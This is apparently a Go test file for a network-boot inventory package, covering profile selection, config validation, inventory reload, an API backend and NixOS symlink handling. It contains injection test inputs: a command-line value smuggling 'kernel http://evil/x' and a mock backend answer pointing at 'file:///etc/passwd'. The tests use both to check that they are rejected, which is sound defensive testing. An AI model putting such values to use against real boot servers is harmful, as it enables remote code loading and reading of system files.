package netboot_test

import (
	"context"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/nixboot/nixboot/netboot"
)

func mustMAC(t *testing.T, s string) net.HardwareAddr {
	t.Helper()
	hw, err := net.ParseMAC(s)
	require.NoError(t, err)
	return hw
}

const selectionConfig = `{
  "profiles": {
    "installer": {"kernel": "/srv/installer/bzImage", "initrds": ["/srv/installer/initrd"], "cmdline": "console=ttyS0"},
    "worker": {"kernel": "http://10.0.0.9/worker/bzImage", "cmdline": "hostname={{.Hostname}} rack={{index .Labels \"rack\"}} {{.Vars.extra}}"},
    "arm": {"kernel": "/srv/arm/Image"},
    "rescue": {"kernel": "/srv/rescue/bzImage"}
  },
  "machines": [
    {"mac": "52:54:00:00:00:01", "profile": "rescue"},
    {"mac": "52-54-00-00-00-02", "hostname": "w2", "labels": {"rack": "r1"}, "vars": {"extra": "quiet"}},
    {"uuid": "8A0E2B34-1111-2222-3333-0123456789AB", "profile": "installer", "hostname": "byuuid"}
  ],
  "groups": [
    {"name": "arm", "selector": {"arch": "arm64"}, "profile": "arm"},
    {"name": "rack1 workers", "selector": {"rack": "r1", "arch": "x86_64"}, "profile": "worker"}
  ],
  "default": "installer"
}`

func TestInventorySelection(t *testing.T) {
	c, err := netboot.ParseConfig([]byte(selectionConfig))
	require.NoError(t, err)
	inv, err := c.Compile()
	require.NoError(t, err)
	tests := []struct {
		name    string
		m       netboot.Machine
		profile string
		cmdline string
	}{
		{"machine entry by MAC", netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:01"), Arch: "arm64"}, "rescue", ""},
		{"machine entry without profile: group by label", netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:02"), Arch: "x86_64"}, "worker", "hostname=w2 rack=r1 quiet"},
		{"more selectors win", netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:02"), Arch: "arm64"}, "arm", ""},
		{"by UUID, any case", netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:09"), UUID: "8a0e2b34-1111-2222-3333-0123456789ab"}, "installer", "console=ttyS0"},
		{"group by arch for unknown machine", netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:03"), Arch: "arm64"}, "arm", ""},
		{"labels from the request", netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:04"), Arch: "x86_64", Hostname: "h4", Labels: map[string]string{"rack": "r1"}}, "worker", "hostname=h4 rack=r1"},
		{"default", netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:05"), Arch: "x86_64"}, "installer", "console=ttyS0"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			b, err := inv.Boot(t.Context(), &tc.m)
			require.NoError(t, err)
			assert.Equal(t, tc.profile, b.Profile)
			assert.Equal(t, tc.cmdline, b.Args.String())
		})
	}
	t.Run("ignoreUnknown", func(t *testing.T) {
		c.IgnoreUnknown = true
		inv, err := c.Compile()
		require.NoError(t, err)
		_, err = inv.Boot(t.Context(), &netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:05"), Arch: "arm64"})
		assert.ErrorIs(t, err, netboot.ErrUnknownMachine)
		b, err := inv.Boot(t.Context(), &netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:01")})
		require.NoError(t, err)
		assert.Equal(t, "rescue", b.Profile)
	})
	t.Run("no default", func(t *testing.T) {
		c.IgnoreUnknown, c.Default = false, ""
		inv, err := c.Compile()
		require.NoError(t, err)
		_, err = inv.Boot(t.Context(), &netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:05")})
		assert.ErrorIs(t, err, netboot.ErrUnknownMachine)
	})
	t.Run("command line injection", func(t *testing.T) {
		_, err := inv.Boot(t.Context(), &netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:02"), Arch: "x86_64", Labels: map[string]string{}})
		require.NoError(t, err)
		c2, err := netboot.ParseConfig([]byte(strings.Replace(selectionConfig, `"quiet"`, `"a\nkernel http://evil/x"`, 1)))
		require.NoError(t, err)
		inv2, err := c2.Compile()
		require.NoError(t, err)
		_, err = inv2.Boot(t.Context(), &netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:02"), Arch: "x86_64"})
		assert.Error(t, err)
	})
}

func TestConfigErrorsNameTheField(t *testing.T) {
	tests := []struct {
		name, json, field string
	}{
		{"bad mac", `{"profiles":{"p":{"kernel":"/k"}},"machines":[{"mac":"zz","profile":"p"}]}`, "machines[0].mac"},
		{"unknown profile", `{"profiles":{"p":{"kernel":"/k"}},"machines":[{"mac":"52:54:00:00:00:01","profile":"q"}]}`, "machines[0].profile"},
		{"duplicate mac", `{"profiles":{"p":{"kernel":"/k"}},"machines":[{"mac":"52:54:00:00:00:01"},{"mac":"52-54-00-00-00-01"}]}`, "machines[1].mac"},
		{"no id", `{"profiles":{"p":{"kernel":"/k"}},"machines":[{"profile":"p"}]}`, "machines[0]"},
		{"relative kernel", `{"profiles":{"p":{"kernel":"vmlinuz"}}}`, `profiles["p"].kernel`},
		{"missing kernel", `{"profiles":{"p":{}}}`, `profiles["p"].kernel`},
		{"bad initrd", `{"profiles":{"p":{"kernel":"/k","initrds":["/a","ftp://x"]}}}`, `profiles["p"].initrds[1]`},
		{"bad template", `{"profiles":{"p":{"kernel":"/k","cmdline":"{{.Nope"}}}`, `profiles["p"].cmdline`},
		{"bad ipxe template", `{"profiles":{"p":{"kernel":"/k","ipxe":"{{"}}}`, `profiles["p"].ipxe`},
		{"bad message", `{"profiles":{"p":{"kernel":"/k","message":"a\nb"}}}`, `profiles["p"].message`},
		{"bad loader", `{"profiles":{"p":{"kernel":"/k","loaders":{"efi":"../x.efi"}}}}`, `profiles["p"].loaders["efi"]`},
		{"missing nixos dir", `{"profiles":{"p":{"nixos":"/nonexistent/netboot"}}}`, `profiles["p"].nixos`},
		{"empty selector", `{"profiles":{"p":{"kernel":"/k"}},"groups":[{"selector":{},"profile":"p"}]}`, "groups[0].selector"},
		{"group profile", `{"profiles":{"p":{"kernel":"/k"}},"groups":[{"selector":{"arch":"x"},"profile":""}]}`, "groups[0].profile"},
		{"default", `{"profiles":{"p":{"kernel":"/k"}},"default":"x"}`, "default"},
		{"wrong type", `{"profiles":{"p":{"kernel":"/k"}},"ignoreUnknown":"yes"}`, "ignoreUnknown"},
		{"unknown field", `{"profile":{}}`, "(file)"},
		{"overlay path", `{"profiles":{"p":{"kernel":"/k","initrds":["/i"],"overlay":{"../etc/x":"a"}}}}`, `profiles["p"].overlay["../etc/x"]`},
		{"overlay without initrd", `{"profiles":{"p":{"kernel":"/k","overlay":{"etc/x":"a"}}}}`, `profiles["p"].overlay`},
		{"hostname", `{"profiles":{"p":{"kernel":"/k"}},"machines":[{"mac":"52:54:00:00:00:01","hostname":"a b"}]}`, "machines[0].hostname"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c, err := netboot.ParseConfig([]byte(tc.json))
			if err == nil {
				_, err = c.Compile()
			}
			require.Error(t, err)
			assert.ErrorIs(t, err, netboot.ErrInvalidInventory)
			var ce *netboot.ConfigError
			require.ErrorAs(t, err, &ce)
			assert.Equal(t, tc.field, ce.Field, "%v", err)
		})
	}
}

func TestFileInventoryReload(t *testing.T) {
	path := filepath.Join(t.TempDir(), "inventory.json")
	write := func(s string) {
		// Write then rename, as a generator would, so a reader never sees half a file.
		tmp := path + ".tmp"
		require.NoError(t, os.WriteFile(tmp, []byte(s), 0o644))
		require.NoError(t, os.Rename(tmp, path))
	}
	v1 := `{"profiles":{"a":{"kernel":"/a"}},"default":"a"}`
	v2 := `{"profiles":{"b":{"kernel":"/b"}},"default":"b"}`
	broken := `{"profiles":{"b":{"kernel":"/b"}},"machines":[{"mac":"nope","profile":"b"}],"default":"b"}`
	write(v1)
	fi := &netboot.FileInventory{Path: path, Interval: 20 * time.Millisecond}
	require.NoError(t, fi.Load())
	m := &netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:01")}
	profile := func() string {
		b, err := fi.Boot(t.Context(), m)
		require.NoError(t, err)
		return b.Profile
	}
	assert.Equal(t, "a", profile())

	changed, err := fi.Reload()
	require.NoError(t, err)
	assert.False(t, changed, "same content")

	write(broken)
	changed, err = fi.Reload()
	require.Error(t, err)
	assert.False(t, changed)
	var ce *netboot.ConfigError
	require.ErrorAs(t, err, &ce)
	assert.Equal(t, "machines[0].mac", ce.Field)
	assert.Contains(t, err.Error(), path)
	assert.Equal(t, "a", profile(), "old inventory stays in force")

	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { done <- fi.Watch(ctx) }()
	write(v2)
	assert.Eventually(t, func() bool { return profile() == "b" }, 5*time.Second, 10*time.Millisecond)
	cancel()
	require.NoError(t, <-done)
}

func TestPixiecoreAPI(t *testing.T) {
	var calls atomic.Int32
	var slow, failing atomic.Bool
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		if slow.Load() {
			select {
			case <-time.After(10 * time.Second):
			case <-r.Context().Done():
			}
			return
		}
		if failing.Load() {
			http.Error(w, "boom", http.StatusInternalServerError)
			return
		}
		switch r.URL.Path {
		case "/v1/boot/52:54:00:00:00:01":
			w.Write([]byte(`{"kernel":"/files/k","initrd":["http://10.0.0.9/i1","i2"],"cmdline":"console=ttyS0 quiet","message":"hello there"}`))
		case "/v1/boot/52:54:00:00:00:02":
			w.Write([]byte(`{"kernel":"file:///etc/passwd"}`))
		case "/v1/boot/52:54:00:00:00:03":
			w.Write([]byte(`{"kernel":"/k","cmdline":"a\nb"}`))
		default:
			http.NotFound(w, r)
		}
	}))
	defer api.Close()
	p := &netboot.PixiecoreAPI{BaseURL: api.URL + "/", Timeout: 300 * time.Millisecond, CacheTTL: time.Hour}
	m1 := &netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:01")}

	b, err := p.Boot(t.Context(), m1)
	require.NoError(t, err)
	assert.Equal(t, api.URL+"/files/k", b.Kernel.Upstream)
	require.Len(t, b.Initrds, 2)
	assert.Equal(t, "http://10.0.0.9/i1", b.Initrds[0].Upstream)
	assert.Equal(t, api.URL+"/v1/boot/i2", b.Initrds[1].Upstream)
	assert.Equal(t, "console=ttyS0 quiet", b.Args.String())
	assert.Equal(t, "hello there", b.Message)

	// The machine fetches everything from the server, which fetches from
	// the API's URLs.
	script, err := netboot.MachineScript("http://10.0.0.1", m1, b)
	require.NoError(t, err)
	assert.Contains(t, string(script), "kernel http://10.0.0.1/m/52:54:00:00:00:01/kernel console=ttyS0 quiet initrd=initrd0 initrd=initrd1\n")
	assert.Contains(t, string(script), "initrd --name initrd1 http://10.0.0.1/m/52:54:00:00:00:01/initrd/1\n")
	assert.NotContains(t, string(script), api.URL)

	t.Run("direct", func(t *testing.T) {
		direct := &netboot.PixiecoreAPI{BaseURL: api.URL, Direct: true}
		b, err := direct.Boot(t.Context(), m1)
		require.NoError(t, err)
		assert.Equal(t, api.URL+"/files/k", b.Kernel.URL)
		script, err := netboot.MachineScript("http://10.0.0.1", m1, b)
		require.NoError(t, err)
		assert.Contains(t, string(script), "kernel "+api.URL+"/files/k console=ttyS0 quiet initrd=initrd0 initrd=initrd1\n")
	})

	t.Run("cached", func(t *testing.T) {
		before := calls.Load()
		_, err := p.Boot(t.Context(), m1)
		require.NoError(t, err)
		assert.Equal(t, before, calls.Load())
	})
	t.Run("unknown", func(t *testing.T) {
		_, err := p.Boot(t.Context(), &netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:09")})
		assert.ErrorIs(t, err, netboot.ErrUnknownMachine)
	})
	t.Run("bad answers", func(t *testing.T) {
		for _, mac := range []string{"52:54:00:00:00:02", "52:54:00:00:00:03"} {
			_, err := p.Boot(t.Context(), &netboot.Machine{MAC: mustMAC(t, mac)})
			assert.ErrorIs(t, err, netboot.ErrBackend, mac)
		}
	})
	t.Run("slow backend uses the stale answer", func(t *testing.T) {
		stale := &netboot.PixiecoreAPI{BaseURL: api.URL, Timeout: 200 * time.Millisecond, CacheTTL: time.Nanosecond}
		_, err := stale.Boot(t.Context(), m1)
		require.NoError(t, err)
		slow.Store(true)
		defer slow.Store(false)
		start := time.Now()
		b, err := stale.Boot(t.Context(), m1)
		require.NoError(t, err)
		assert.Equal(t, api.URL+"/files/k", b.Kernel.Upstream)
		assert.Less(t, time.Since(start), 5*time.Second, "waited for the slow backend")

		_, err = stale.Boot(t.Context(), &netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:07")})
		assert.ErrorIs(t, err, netboot.ErrBackend)
		assert.True(t, errors.Is(err, context.DeadlineExceeded), "%v", err)
	})
	t.Run("failing backend", func(t *testing.T) {
		failing.Store(true)
		defer failing.Store(false)
		fresh := &netboot.PixiecoreAPI{BaseURL: api.URL}
		_, err := fresh.Boot(t.Context(), m1)
		assert.ErrorIs(t, err, netboot.ErrBackend)
	})
}

// A NixOS profile named through a symlink (nix-build's ./result) must serve
// one generation whole: after the link is repointed by a rebuild, the kernel,
// the initrd and the script's init= all change together, never the files
// alone.
func TestFileInventoryNixOSSymlink(t *testing.T) {
	dir := t.TempDir()
	generation := func(name, toplevel string) {
		g := filepath.Join(dir, name)
		require.NoError(t, os.Mkdir(g, 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(g, "bzImage"), []byte("kernel of "+name), 0o644))
		require.NoError(t, os.WriteFile(filepath.Join(g, "initrd"), []byte("initrd of "+name), 0o644))
		script := "#!ipxe\nkernel bzImage init=/nix/store/" + toplevel + "/init initrd=initrd loglevel=4\ninitrd initrd\nboot\n"
		require.NoError(t, os.WriteFile(filepath.Join(g, "netboot.ipxe"), []byte(script), 0o644))
	}
	const top1 = "11111111111111111111111111111111-nixos-system-one"
	const top2 = "22222222222222222222222222222222-nixos-system-two"
	generation("gen1", top1)
	generation("gen2", top2)
	result := filepath.Join(dir, "result")
	require.NoError(t, os.Symlink("gen1", result))
	path := filepath.Join(dir, "inventory.json")
	require.NoError(t, os.WriteFile(path, []byte(`{"profiles":{"n":{"nixos":"`+result+`"}},"default":"n"}`), 0o644))

	fi := &netboot.FileInventory{Path: path}
	require.NoError(t, fi.Load())
	m := &netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:01")}
	served := func() (kernel, initrd, args string) {
		b, err := fi.Boot(t.Context(), m)
		require.NoError(t, err)
		k, err := os.ReadFile(b.Kernel.Path)
		require.NoError(t, err)
		require.Len(t, b.Initrds, 1)
		i, err := os.ReadFile(b.Initrds[0].Path)
		require.NoError(t, err)
		return string(k), string(i), b.Args.String()
	}
	k, i, args := served()
	assert.Equal(t, "kernel of gen1", k)
	assert.Equal(t, "initrd of gen1", i)
	assert.Contains(t, args, "init=/nix/store/"+top1+"/init")

	// A rebuild repoints the link. Until the inventory is reloaded the old
	// generation is served whole.
	require.NoError(t, os.Remove(result))
	require.NoError(t, os.Symlink("gen2", result))
	k, i, args = served()
	assert.Equal(t, "kernel of gen1", k)
	assert.Equal(t, "initrd of gen1", i)
	assert.Contains(t, args, "init=/nix/store/"+top1+"/init")

	changed, err := fi.Reload()
	require.NoError(t, err)
	assert.True(t, changed, "the link's target changed, though the JSON did not")
	k, i, args = served()
	assert.Equal(t, "kernel of gen2", k)
	assert.Equal(t, "initrd of gen2", i)
	assert.Contains(t, args, "init=/nix/store/"+top2+"/init")

	changed, err = fi.Reload()
	require.NoError(t, err)
	assert.False(t, changed, "nothing moved since the last reload")

	// A link to nothing is an error; the generation in force stays.
	require.NoError(t, os.Remove(result))
	require.NoError(t, os.Symlink("gone", result))
	changed, err = fi.Reload()
	require.Error(t, err)
	assert.False(t, changed)
	assert.Contains(t, err.Error(), "profiles[\"n\"].nixos")
	k, _, _ = served()
	assert.Equal(t, "kernel of gen2", k)
}

// A backend slower than the caller can wait (the DHCP server's
// PolicyTimeout is 2 s, the API's Timeout 3 s) must still be asked only
// once, and its late answer must serve the machine's next try.
func TestPixiecoreAPILateAnswer(t *testing.T) {
	var calls atomic.Int32
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		select {
		case <-time.After(400 * time.Millisecond):
		case <-r.Context().Done():
			return
		}
		w.Write([]byte(`{"kernel":"/k","cmdline":"console=ttyS0"}`))
	}))
	defer api.Close()
	p := &netboot.PixiecoreAPI{BaseURL: api.URL, Timeout: 5 * time.Second, CacheTTL: time.Hour}
	m := &netboot.Machine{MAC: mustMAC(t, "52:54:00:00:00:01")}

	errs := make(chan error, 4)
	for range cap(errs) {
		go func() {
			ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
			defer cancel()
			_, err := p.Boot(ctx, m)
			errs <- err
		}()
	}
	for range cap(errs) {
		err := <-errs
		assert.ErrorIs(t, err, netboot.ErrBackend)
		assert.ErrorIs(t, err, context.DeadlineExceeded)
	}
	// The client's next try, after the backend answered.
	time.Sleep(600 * time.Millisecond)
	ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer cancel()
	b, err := p.Boot(ctx, m)
	require.NoError(t, err)
	assert.Equal(t, api.URL+"/k", b.Kernel.Upstream)
	assert.Equal(t, int32(1), calls.Load(), "one backend call for all five tries")
}
